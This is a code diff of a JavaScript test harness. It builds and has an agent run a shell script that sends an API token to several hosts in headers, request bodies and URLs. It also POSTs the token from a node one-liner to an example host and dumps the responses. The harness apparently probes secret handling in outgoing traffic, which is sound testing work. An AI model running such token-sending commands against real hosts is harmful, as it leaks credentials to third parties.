@@ -21,11 +21,12 @@ export const inspect = [
 const asking = `
 mkdir -p out; cd out
 for host in ${hosts.join(' ')}; do (
+  all=
   for way in ${Object.keys(ways).join(' ')}; do
-    name=$host$(echo $way | tr / -)
-    curl -sS -m 20 -D $name.head -o $name.body -H "X-Key: $API_TOKEN" -H "Authorization: Basic $API_TOKEN" \\
-      -d "key=$API_TOKEN" "https://$host$way?key=$API_TOKEN" 2>> errors
+    all="$all -o $host$(echo $way | tr / -).body https://$host$way?key=$API_TOKEN"
   done
+  curl -sS -m 20 -D $host.head -H "X-Key: $API_TOKEN" -H "Authorization: Basic $API_TOKEN" \\
+    -d "key=$API_TOKEN" $all 2>> errors
   curl -sS -m 20 -v --trace-ascii $host-trace -X TRACE -H "X-Key: $API_TOKEN" https://$host/plain > $host-traced 2>&1
   curl -sS -m 0.3 https://$host/hang > $host-hanging 2>> errors
   curl -sS -m 5 -i -N -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' \\
@@ -36,7 +37,7 @@ for host in ${hosts.join(' ')}; do (
 GIT_TRACE_CURL=1 GIT_CURL_VERBOSE=1 git ls-remote https://github.com/one/two > git 2>&1
 node -e 'fetch("https://vars.api.example/plain", { method: "POST", body: process.env.API_TOKEN })
   .then((answer) => answer.text()).then(console.log, console.log)' > node 2>&1
-cat errors git node; head -c 3000 *plain.body *.com-trace *-socket *-hanging; tail -c 800 *.head; for f in *gzip.body *encod*.body; do gunzip -cf $f; gunzip -cf $f | gunzip -cf; done
+cat errors git node; head -c 3000 *plain.body *.com-trace *-socket *-hanging; cat *.head; for f in *gzip.body *encod*.body; do gunzip -cf $f; gunzip -cf $f | gunzip -cf; done
 cat *.body | base64 | tail -c 4000
 `
 export const ask = `write ask.sh: <<END\n${asking}\nEND\nrun: bash ask.sh; wc -c out/*`
